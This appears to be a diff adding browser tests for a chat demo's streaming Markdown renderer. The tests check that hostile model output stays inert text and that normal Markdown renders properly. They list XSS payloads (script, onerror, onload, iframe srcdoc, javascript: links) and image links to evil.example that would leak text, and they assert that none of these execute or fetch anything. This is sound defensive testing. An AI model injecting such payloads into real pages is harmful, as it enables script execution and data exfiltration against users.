@@ -1,0 +1,192 @@
+// What the demo page makes of a model's Markdown: the good rendered while it streams, the hostile shown and never run.
+
+import type { Request } from 'playwright-core';
+import { afterAll, describe, expect, it } from 'vitest';
+import { chunk, streamHeaders } from '../server/support/upstream.js';
+import { httpServer, type LocalServer } from '../../support/local-server.mjs';
+import { ChatPage, withClipboard } from './support/chat-page.js';
+import { useChromium } from '../../browser/support/chromium.js';
+import { useDemo } from './support/demo.js';
+
+let markdown = '';
+let model: LocalServer | undefined;
+
+const { openSharedPage } = useChromium();
+const demo = useDemo(async () => {
+  model = await httpServer((request, response) => {
+    request.resume();
+    response.writeHead(200, streamHeaders);
+    // Three characters at a time, so that every mark is cut open somewhere on its way.
+    for (const piece of markdown.match(/[^]{1,3}/gu) ?? []) response.write(chunk(piece));
+    response.end(chunk('', 'stop') + 'data: [DONE]\n\n');
+  }).listen();
+  return { env: { OPENAI_BASE_URL: `${model.url}/v1` } };
+});
+afterAll(() => model?.close());
+
+let shared: ChatPage | undefined;
+
+/** Shows the text as an answer, in a new chat on a page that all tests of this file share. */
+async function render(text: string): Promise<ChatPage> {
+  markdown = text;
+  shared ??= await ChatPage.open(await openSharedPage(withClipboard), demo.url);
+  await shared.newChat.click();
+  await shared.ask('Show me');
+  await shared.waitForStatus(/^Done$/);
+  return shared;
+}
+
+describe('hostile text', () => {
+  it.each([
+    '<script>document.title = "owned"</script>',
+    '<img src=x onerror="document.title=\'owned\'">',
+    'Text <svg onload="document.title=\'owned\'"></svg> text',
+    '<iframe srcdoc="<script>parent.document.title=\'owned\'</script>"></iframe>',
+    '- <details open ontoggle="document.title=\'owned\'">x</details>',
+    '| a |\n| --- |\n| <img src=x onerror="document.title=\'owned\'"> |',
+    '```html\n<img src=x onerror="document.title=\'owned\'">\n```',
+    '<style>body { display: none }</style>',
+    '<form action="https://evil.example"><input name="q"></form>',
+  ])('is shown as text: %s', async (hostile) => {
+    const chat = await render(`Before.\n\n${hostile}\n\nAfter.`);
+
+    expect(await chat.page.title()).toBe('post-event-source chat');
+    expect(
+      await chat.answers.locator('script, img, svg:not(.icon), iframe, style, form').count(),
+    ).toBe(0);
+    expect(
+      await chat.answers.evaluate((answer) =>
+        [...answer.querySelectorAll('*')].flatMap(({ attributes }) =>
+          [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
+        ),
+      ),
+    ).toEqual([]);
+    expect(await chat.answers.textContent()).toContain(/<\w+/.exec(hostile)?.[0]);
+    await chat.answers.getByText('After.').waitFor();
+  });
+
+  it('stays text in the language of a code block', async () => {
+    const language = "\"><img/src=x/onerror=document.title='owned'>";
+
+    const chat = await render(`\`\`\`${language}\ncode\n\`\`\``);
+
+    expect(await chat.answers.locator('img').count()).toBe(0);
+    expect(await chat.answers.locator('[data-language]').getAttribute('data-language')).toBe(
+      language,
+    );
+  });
+
+  it.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'data:text/html,x',
+    'vbscript:x',
+    '/api/info',
+  ])('gets no link to %s', async (address) => {
+    const chat = await render(`[click me](${address}) and <${address}>`);
+
+    expect(await chat.answers.locator('a').count()).toBe(0);
+    await chat.answers.getByText('click me').waitFor();
+  });
+
+  it('makes the page fetch nothing', async () => {
+    const { page } = await render('Nothing yet.');
+    const foreign: string[] = [];
+    const note = (request: Request) => {
+      if (!request.url().startsWith(demo.url)) foreign.push(request.url());
+    };
+    page.on('request', note);
+
+    const chat = await render('![secret](https://evil.example/?q=words) ![](//evil.example/x.png)');
+    page.off('request', note);
+
+    expect(foreign).toEqual([]);
+    const link = chat.answers.getByRole('link', { name: 'secret' });
+    expect(await link.getAttribute('href')).toBe('https://evil.example/?q=words');
+  });
+
+  it('opens links without giving away this page', async () => {
+    const chat = await render('See [the standard](https://html.spec.whatwg.org/).');
+
+    const link = chat.answers.getByRole('link', { name: 'the standard' });
+    expect(await link.getAttribute('target')).toBe('_blank');
+    expect(await link.getAttribute('rel')).toContain('noopener');
+  });
+});
+
+describe('good Markdown', () => {
+  it('becomes headings, lists, tables, quotations and code', async () => {
+    const chat = await render(
+      [
+        '# Title',
+        'Some **bold**, *soft*, ~~gone~~ and `code`.',
+        '1. one\n2. two\n   - nested',
+        '> quoted',
+        '| Left | Right |\n| :--- | ---: |\n| 茶 | 🍵 |',
+        '- [x] done\n- [ ] open',
+        '```ts\nconst answer: number = 42;\n```',
+      ].join('\n\n'),
+    );
+    const { answers } = chat;
+
+    await answers.getByRole('heading', { name: 'Title' }).waitFor();
+    expect(await answers.locator('strong').textContent()).toBe('bold');
+    expect(await answers.getByRole('listitem').count()).toBe(5);
+    expect(await answers.getByRole('blockquote').textContent()).toContain('quoted');
+    await answers.getByRole('cell', { name: '🍵' }).waitFor();
+    expect(await answers.getByText('☑').count()).toBe(1);
+    expect(await answers.locator('.hljs-keyword').first().textContent()).toBe('const');
+    expect(await answers.locator('figure').textContent()).toBe('const answer: number = 42;');
+  });
+
+  it('copies the code of a block, and nothing else', async () => {
+    const chat = await render('Run this:\n\n```bash\necho "hello" | cat\n```\n');
+
+    await chat.answers.getByRole('button', { name: 'Copy code' }).click();
+    await chat.page.getByRole('button', { name: 'Copied' }).waitFor();
+
+    expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe(
+      'echo "hello" | cat',
+    );
+  });
+
+  it.each([
+    ['Windows line ends', 'One\r\n\r\nTwo\r\n\r\nThree\r\n\r\n- a\r\n- b\r\n\r\nFour'],
+    [
+      'link definitions between paragraphs',
+      'See [it].\n\n[it]: https://example.com\n\nTwo\n\nThree\n\nFour',
+    ],
+    ['a list that goes on after code', '1. a\n\n   ```\n   x\n   ```\n\n2. b\n\nc\n\nd\n\ne'],
+  ])('streams to the same page as it would be drawn at once: %s', async (_name, text) => {
+    const { page } = await render('Nothing yet.');
+
+    const drawn = await page.evaluate<Drawn>(drawBothWays(text));
+
+    expect(drawn.finished).toBe(drawn.atOnce);
+    expect(drawn.growing).toBe(drawn.words);
+  });
+});
+
+interface Drawn {
+  atOnce: string;
+  finished: string;
+  growing: string;
+  words: string;
+}
+
+/**
+ * A script for the page: its own renderer, fed one character more each time, beside the same text in one piece.
+ * Text, because the test runner would rewrite an import inside a function.
+ */
+const drawBothWays = (text: string) => `(async () => {
+  const { StreamingMarkdown } = await import('/src/markdown/streaming-markdown.ts');
+  const text = ${JSON.stringify(text)};
+  const [whole, parts] = [document.createElement('div'), document.createElement('div')];
+  new StreamingMarkdown(whole).finish(text);
+  const streaming = new StreamingMarkdown(parts);
+  for (let end = 1; end <= text.length; end += 1) streaming.update(text.slice(0, end));
+  const wordsOf = (node) => node.textContent.replace(/[\\s[\\]]/g, '');
+  const growing = wordsOf(parts);
+  streaming.finish(text);
+  return { atOnce: whole.innerHTML, finished: parts.innerHTML, growing, words: wordsOf(whole) };
+})()`;
